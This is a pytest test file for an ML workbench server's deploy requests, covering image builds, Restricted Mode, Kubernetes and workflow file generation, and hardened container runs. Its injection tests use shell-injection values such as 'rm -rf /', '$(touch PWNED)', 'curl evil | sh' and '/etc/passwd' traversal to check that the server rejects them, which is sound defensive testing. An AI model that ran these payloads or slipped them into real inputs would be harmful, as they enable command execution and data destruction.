"""Deploy requests through the real server: the CLI verb a build becomes, what Restricted Mode and
a missing engine answer, manifests and workflows written into the workspace, and (slow) a real
build, container, call and clean-up on a private Docker engine (tests/backend/docker_engine.py).
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from pygls.exceptions import JsonRpcException
from pytest_lsp import LanguageClient

from mlworkbench.deploy.deploy_errors import InvalidImageReferenceError
from mlworkbench_server.deploy_requests import build_argv
from mlworkbench_server.protocol import ERROR_CODES, NOTIFICATIONS, REQUESTS

pytestmark = pytest.mark.usefixtures("no_tracking_env")

HOSTILE_URI = "model $(touch PWNED); `id` && echo"
BIN = Path(sys.executable).parent


def _ask(client: LanguageClient, request: str, **params: Any) -> Any:
    return client.protocol.send_request_async(REQUESTS[request], params)


async def _code_of(call: Any) -> int:
    with pytest.raises(JsonRpcException) as error:
        await call
    return int(error.value.code)


@pytest.fixture
def no_engine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """DOCKER_HOST at a socket that does not exist, for the server started after this."""
    host = f"unix://{tmp_path / 'missing' / 'docker.sock'}"
    monkeypatch.setenv("DOCKER_HOST", host)
    return host


# --- the verb a build becomes ------------------------------------------------------------------


def test_a_build_becomes_an_argument_list_with_one_item_per_flag() -> None:
    argv = build_argv(
        {"workspaceUri": "file:///ws", "jobId": "j", "tag": "credit", "model": HOSTILE_URI}
    )
    assert argv == ["deploy", "build", "--tag=credit:latest", f"--model={HOSTILE_URI}"]
    argv = build_argv(
        {
            "workspaceUri": "file:///ws",
            "jobId": "j",
            "tag": "team/credit:1",
            "runId": "abc",
            "model": "-model",  # a label that looks like a flag stays the flag's value
            "baseImage": "python:3.11-slim",
            "smokeTest": True,
        }
    )
    assert argv == [
        "deploy", "build", "--tag=team/credit:1", "--run=abc", "--model-name=-model",
        "--base-image=python:3.11-slim", "--run-container",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("tag", "base"),
    [
        ("credit:1;rm -rf /", None),
        ("credit:$(id)", None),
        ("Credit Model", None),
        ("credit:1\nRUN id", None),
        ("credit:1", "python:3.11 && curl evil | sh"),
    ],
)
def test_bad_tags_and_base_images_fail_before_any_process(tag: str, base: str | None) -> None:
    params: Any = {"workspaceUri": "file:///ws", "jobId": "j", "tag": tag, "model": "m"}
    if base:
        params["baseImage"] = base
    with pytest.raises(InvalidImageReferenceError):
        build_argv(params)


# --- Restricted Mode and a missing engine -----------------------------------------------------


async def test_restricted_mode_refuses_what_runs_or_writes(
    no_engine: str, client: LanguageClient, tmp_path: Path
) -> None:
    uri = tmp_path.as_uri()
    refused = {
        "BUILD_IMAGE": {"workspaceUri": uri, "jobId": "j", "tag": "credit:1", "model": "m"},
        "CANCEL_BUILD": {"jobId": "j"},
        "START_CONTAINER": {"image": "credit:1"},
        "STOP_CONTAINER": {"containerId": "c"},
        "REMOVE_IMAGE": {"image": "credit:1"},
        "INVOKE_CONTAINER": {"containerId": "c", "body": "{}"},
        "WRITE_K8S": {"workspaceUri": uri, "image": "credit:1", "name": "credit"},
        "WRITE_WORKFLOW": {"workspaceUri": uri, "script": "train.py"},
    }
    for name, params in refused.items():
        code = await _code_of(_ask(client, name, **params))
        assert code == ERROR_CODES["UNTRUSTED_WORKSPACE"], name
    assert list(tmp_path.iterdir()) == []
    # Reading the engine's state is allowed there, and answers even without an engine.
    listed = await _ask(client, "LIST_DEPLOYMENTS")
    assert listed.engine.status == "unavailable"


async def test_without_an_engine_the_list_says_why_and_how_to_fix_it(
    no_engine: str, trusted: LanguageClient
) -> None:
    listed = await _ask(trusted, "LIST_DEPLOYMENTS")
    assert listed.engine.status == "unavailable"
    assert listed.engine.host == no_engine
    assert "does not exist" in listed.engine.message
    assert "DOCKER_HOST" in listed.engine.fix
    assert listed.images == [] and listed.containers == []
    code = await _code_of(_ask(trusted, "START_CONTAINER", image="credit:1"))
    assert code == ERROR_CODES["DOCKER_UNAVAILABLE"]
    code = await _code_of(_ask(trusted, "CONTAINER_LOGS", containerId="c"))
    assert code == ERROR_CODES["DOCKER_UNAVAILABLE"]


async def test_a_bad_tag_is_refused_before_the_build_process_starts(
    no_engine: str, trusted: LanguageClient, tmp_path: Path
) -> None:
    lines: list[str] = []
    trusted.feature(NOTIFICATIONS["DEPLOY_LOG"])(lambda params: lines.append(params.line))
    for tag in ("credit:1;touch PWNED", "Credit:$(id)"):
        code = await _code_of(
            _ask(trusted, "BUILD_IMAGE", workspaceUri=tmp_path.as_uri(), jobId=tag, tag=tag,
                 model="m")
        )  # fmt: skip
        assert code == ERROR_CODES["INVALID_IMAGE_REFERENCE"]
    assert lines == []  # no child: it would have said "packaging" or failed on the engine
    assert not (tmp_path / "PWNED").exists()


async def test_a_build_childs_typed_error_comes_back_and_no_shell_sees_the_uri(
    no_engine: str, trusted: LanguageClient, tmp_path: Path
) -> None:
    """The child (`mlworkbench deploy build`) fails on the missing engine: its typed error
    comes back with its code through the `mlworkbench-error:` line, and the model URI full of
    shell syntax was only ever an argument."""
    code = await _code_of(
        _ask(trusted, "BUILD_IMAGE", workspaceUri=tmp_path.as_uri(), jobId="j1", tag="credit:1",
             model=HOSTILE_URI)
    )  # fmt: skip
    assert code == ERROR_CODES["DOCKER_UNAVAILABLE"]
    assert not (tmp_path / "PWNED").exists() and not Path("PWNED").exists()


# --- manifests and workflows --------------------------------------------------------------------


async def test_k8s_manifests_are_valid_and_never_overwritten(
    trusted: LanguageClient, tmp_path: Path
) -> None:
    import kubernetes_validate
    import yaml

    params = {"workspaceUri": tmp_path.as_uri(), "image": "credit:1.0", "name": "credit"}
    written = await _ask(trusted, "WRITE_K8S", **params, replicas=3, hpa=True)
    assert [Path(f).relative_to(tmp_path).as_posix() for f in written.files] == [
        "k8s/credit/deployment.yaml", "k8s/credit/service.yaml",
        "k8s/credit/horizontalpodautoscaler.yaml",
    ]  # fmt: skip
    for path in written.files:
        kubernetes_validate.validate(yaml.safe_load(Path(path).read_text()), "1.37", strict=True)
    before = Path(written.files[0]).read_text()
    code = await _code_of(_ask(trusted, "WRITE_K8S", **params, replicas=5))
    assert code == ERROR_CODES["OUTPUT_EXISTS"]
    assert Path(written.files[0]).read_text() == before
    again = await _ask(trusted, "WRITE_K8S", **params, force=True)
    assert len(again.files) == 2  # no HPA this time; replicas in the Deployment
    assert yaml.safe_load(Path(again.files[0]).read_text())["spec"]["replicas"] == 2
    code = await _code_of(_ask(trusted, "WRITE_K8S", **{**params, "name": "../x"}))
    assert code == ERROR_CODES["INVALID_RESOURCE_NAME"]


async def test_a_workflow_is_valid_stays_in_the_workspace_and_is_never_overwritten(
    trusted: LanguageClient, tmp_path: Path
) -> None:
    uri = tmp_path.as_uri()
    written = await _ask(
        trusted, "WRITE_WORKFLOW", workspaceUri=uri, script="src/train.py", data="data/d.csv",
        target="y", sensitive=["sex"], maxDisparity=0.05,
    )  # fmt: skip
    (path,) = written.files
    assert Path(path) == tmp_path / ".github/workflows/ml-workbench.yml"
    tool = next(p for p in (BIN / "check-jsonschema", Path("check-jsonschema")) if p.exists())
    result = subprocess.run(
        [str(tool), "--builtin-schema", "vendor.github-workflows", path],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    text = Path(path).read_text()
    assert "src/train.py" in text and "MAX_DISPARITY: '0.05'" in text
    code = await _code_of(_ask(trusted, "WRITE_WORKFLOW", workspaceUri=uri, script="train.py"))
    assert code == ERROR_CODES["OUTPUT_EXISTS"]
    assert Path(path).read_text() == text
    for outside in ("../train.py", "/etc/passwd"):
        code = await _code_of(
            _ask(trusted, "WRITE_WORKFLOW", workspaceUri=uri, script=outside, force=True)
        )
        assert code == ERROR_CODES["INVALID_DEPLOY_OPTION"], outside
    assert Path(path).read_text() == text


# --- a real engine (slow) -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def run_workspace(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A workspace whose store holds a run that logged a LogisticRegression (skops, with an
    input example), as `mlflow.sklearn.log_model` in a training script would."""
    from importlib.metadata import version

    import mlflow
    import mlflow.sklearn
    import numpy as np
    import pandas as pd
    from sklearn.linear_model import LogisticRegression

    workspace = tmp_path_factory.mktemp("deploy-ws")
    store = f"sqlite:///{workspace / 'mlflow.db'}"
    rng = np.random.default_rng(0)
    x = pd.DataFrame({"income": rng.normal(50, 10, 200), "age": rng.normal(45, 12, 200)})
    y = (x["income"] + rng.normal(0, 5, 200) > 50).astype(int)
    model = LogisticRegression(max_iter=500).fit(x, y)
    requirements = [f"{p}=={version(p)}" for p in ("scikit-learn", "numpy", "pandas", "scipy")]
    requirements += [f"skops=={version('skops')}", "torch==2.13.0", "pytest==9.2.0"]
    previous = mlflow.get_tracking_uri()
    mlflow.set_tracking_uri(store)
    try:
        experiment = mlflow.create_experiment(
            "deploy", artifact_location=(workspace / "mlruns").as_uri()
        )
        with mlflow.start_run(experiment_id=experiment) as run:
            mlflow.sklearn.log_model(
                model,
                name="model",
                serialization_format="skops",
                pip_requirements=requirements,
                input_example=x.head(5),
            )
    finally:
        mlflow.set_tracking_uri(previous)
        os.environ.pop("MLFLOW_TRACKING_URI", None)
        os.environ.pop("MLFLOW_EXPERIMENT_ID", None)
    return workspace, run.info.run_id


@pytest.fixture
def engine_env(engine: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The server (started after this) talks to the private engine, and its build child finds
    the wheelhouse the backend's deploy tests cached."""
    from tests.backend.docker_engine import TEST_XDG

    monkeypatch.setenv("DOCKER_HOST", engine.base_url)
    monkeypatch.setenv("XDG_CACHE_HOME", str(TEST_XDG))
    return engine


class BuildLog:
    """The deployLog lines of each job, and a way to wait for one."""

    def __init__(self, client: LanguageClient) -> None:
        self.lines: dict[str, list[str]] = {}
        self._changed = asyncio.Event()

        @client.feature(NOTIFICATIONS["DEPLOY_LOG"])
        def on_line(params: Any) -> None:
            self.lines.setdefault(params.jobId, []).append(params.line)
            self._changed.set()

    async def wait_for(self, job_id: str, prefix: str, timeout_s: float) -> None:
        async def seen() -> None:
            while not any(line.startswith(prefix) for line in self.lines.get(job_id, [])):
                self._changed.clear()
                await self._changed.wait()

        await asyncio.wait_for(seen(), timeout_s)


async def _build(client: LanguageClient, workspace: Path, run_id: str, job: str, tag: str) -> Any:
    from tests.backend.docker_engine import BASE_IMAGE

    return await _ask(
        client, "BUILD_IMAGE", workspaceUri=workspace.as_uri(), jobId=job, tag=tag,
        runId=run_id, baseImage=BASE_IMAGE,
    )  # fmt: skip


@pytest.mark.slow
async def test_a_build_streams_its_log_in_order_and_a_cancel_leaves_no_tag(
    engine_env: Any, trusted: LanguageClient, run_workspace: tuple[Path, str]
) -> None:
    from tests.backend.docker_engine import BASE_IMAGE

    workspace, run_id = run_workspace
    log = BuildLog(trusted)
    docker = engine_env.client()
    # Cancelled once the engine builds (the first step), long before the image exists.
    cancelled = asyncio.ensure_future(
        _ask(trusted, "BUILD_IMAGE", workspaceUri=workspace.as_uri(), jobId="cancel",
             tag="mlwb-test/cancelled:1", runId=run_id, baseImage=BASE_IMAGE)
    )  # fmt: skip
    await log.wait_for("cancel", "Step 1/", timeout_s=300)
    await _ask(trusted, "CANCEL_BUILD", jobId="cancel")
    with pytest.raises(JsonRpcException) as error:
        await asyncio.wait_for(cancelled, 60)
    assert error.value.code == ERROR_CODES["IMAGE_BUILD_FAILED"]
    assert "cancelled" in error.value.message
    assert docker.images.list(name="mlwb-test/cancelled") == []

    result = await _build(trusted, workspace, run_id, "build", "mlwb-test/credit:1")
    lines = log.lines["build"]
    assert lines[0].startswith("packaging models:/")
    # The build log kept on disk arrived line by line, in order, as one run of notifications.
    kept = Path(result.logPath).read_text().splitlines()
    start = lines.index(kept[0])
    assert lines[start : start + len(kept)] == kept
    assert result.tag == "mlwb-test/credit:1"
    assert docker.images.get("mlwb-test/credit:1").id == result.imageId
    assert result.sizeBytes > 50e6 and result.buildSeconds > 0 and result.smoke is None
    listed = await _ask(trusted, "LIST_DEPLOYMENTS")
    assert listed.engine.status == "running"
    (image,) = [i for i in listed.images if "mlwb-test/credit:1" in i.tags]
    assert image.id == result.imageId and image.runId == run_id
    assert image.modelUri.startswith("models:/") and image.flavor == "mlflow.sklearn"
    assert image.sizeBytes == result.sizeBytes and image.created
    print(f"\nbuild through the server: {result.buildSeconds:.1f} s, {len(lines)} log lines")


def _post(url: str, body: bytes, token: str | None = None) -> tuple[int, str]:
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(url, data=body, headers=headers, method="POST")
    try:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open(request, timeout=30) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


@pytest.mark.slow
async def test_a_started_container_is_locked_down_needs_its_token_and_predicts_in_process(
    engine_env: Any, trusted: LanguageClient, run_workspace: tuple[Path, str]
) -> None:
    import mlflow.pyfunc
    import numpy as np
    import pandas as pd

    from mlworkbench.deploy.build_context import APP_UID

    workspace, run_id = run_workspace
    docker = engine_env.client()
    built = await _build(trusted, workspace, run_id, "rebuild", "mlwb-test/credit:1")  # cached

    entry = await _ask(trusted, "START_CONTAINER", image=built.tag)
    assert entry.status == "running" and entry.health == "healthy"
    assert entry.url.startswith("http://127.0.0.1:") and entry.startedByEditor
    assert entry.image == built.tag and entry.runId == run_id
    attrs = docker.api.inspect_container(entry.id)
    host = attrs["HostConfig"]
    assert attrs["Config"]["User"] == f"{APP_UID}:{APP_UID}"
    assert host["ReadonlyRootfs"] and host["CapDrop"] == ["ALL"]
    assert host["SecurityOpt"] == ["no-new-privileges:true"]
    assert {b["HostIp"] for b in host["PortBindings"]["8080/tcp"]} == {"127.0.0.1"}
    (mount,) = [m for m in attrs["Mounts"] if m["Destination"].endswith("/token")]
    token_dir = Path(mount["Source"]).parent
    assert not mount["RW"] and (token_dir.stat().st_mode & 0o777) == 0o700
    listed = await _ask(trusted, "LIST_DEPLOYMENTS")
    (shown,) = listed.containers
    assert shown.id == entry.id and shown.startedByEditor and shown.url == entry.url

    sample = await _ask(trusted, "SAMPLE_REQUEST", workspaceUri=workspace.as_uri(),
                        containerId=entry.id)  # fmt: skip
    assert sample.source == "example"
    body = json.loads(sample.body)
    answer = await _ask(trusted, "INVOKE_CONTAINER", containerId=entry.id, body=sample.body)
    assert answer.status == 200 and answer.elapsedMs > 0
    frame = pd.DataFrame(**{k: body["dataframe_split"][k] for k in ("columns", "data")})
    mlflow.set_tracking_uri(f"sqlite:///{workspace / 'mlflow.db'}")
    try:
        expected = mlflow.pyfunc.load_model(built_model_uri(listed, built)).predict(frame)
    finally:
        mlflow.set_tracking_uri(None)
        os.environ.pop("MLFLOW_TRACKING_URI", None)
    assert np.array_equal(json.loads(answer.body)["predictions"], np.asarray(expected).tolist())

    # Straight to the URL without the token (or with a wrong one): refused.
    assert _post(f"{entry.url}/invocations", sample.body.encode())[0] == 401
    assert _post(f"{entry.url}/invocations", sample.body.encode(), "x" * 43)[0] == 401
    # A malformed body is the container's 400 with its reason, and it keeps serving.
    bad = await _ask(trusted, "INVOKE_CONTAINER", containerId=entry.id, body='{"dataframe_split"')
    assert bad.status == 400 and bad.body
    again = await _ask(trusted, "INVOKE_CONTAINER", containerId=entry.id, body=sample.body)
    assert again.status == 200 and again.body == answer.body
    logs = await _ask(trusted, "CONTAINER_LOGS", containerId=entry.id, tail=50)
    assert "token: the one in /var/run/secrets/mlworkbench/token" in logs.text
    assert "readable by other users" not in logs.text  # the file's mode passes the server's check

    code = await _code_of(_ask(trusted, "REMOVE_IMAGE", image=built.tag))
    assert code == ERROR_CODES["INVALID_DEPLOY_OPTION"]  # a container uses it
    await _ask(trusted, "STOP_CONTAINER", containerId=entry.id)
    assert docker.containers.list(all=True) == []
    assert not token_dir.exists()
    code = await _code_of(_ask(trusted, "INVOKE_CONTAINER", containerId=entry.id, body="{}"))
    assert code == ERROR_CODES["CONTAINER_NOT_FOUND"]
    await _ask(trusted, "REMOVE_IMAGE", image=built.tag)
    listed = await _ask(trusted, "LIST_DEPLOYMENTS")
    assert listed.containers == [] and all(built.tag not in i.tags for i in listed.images)


def built_model_uri(listed: Any, built: Any) -> str:
    """The model URI the image was labelled with (the run's LoggedModel)."""
    (image,) = [i for i in listed.images if i.id == built.imageId]
    return str(image.modelUri)
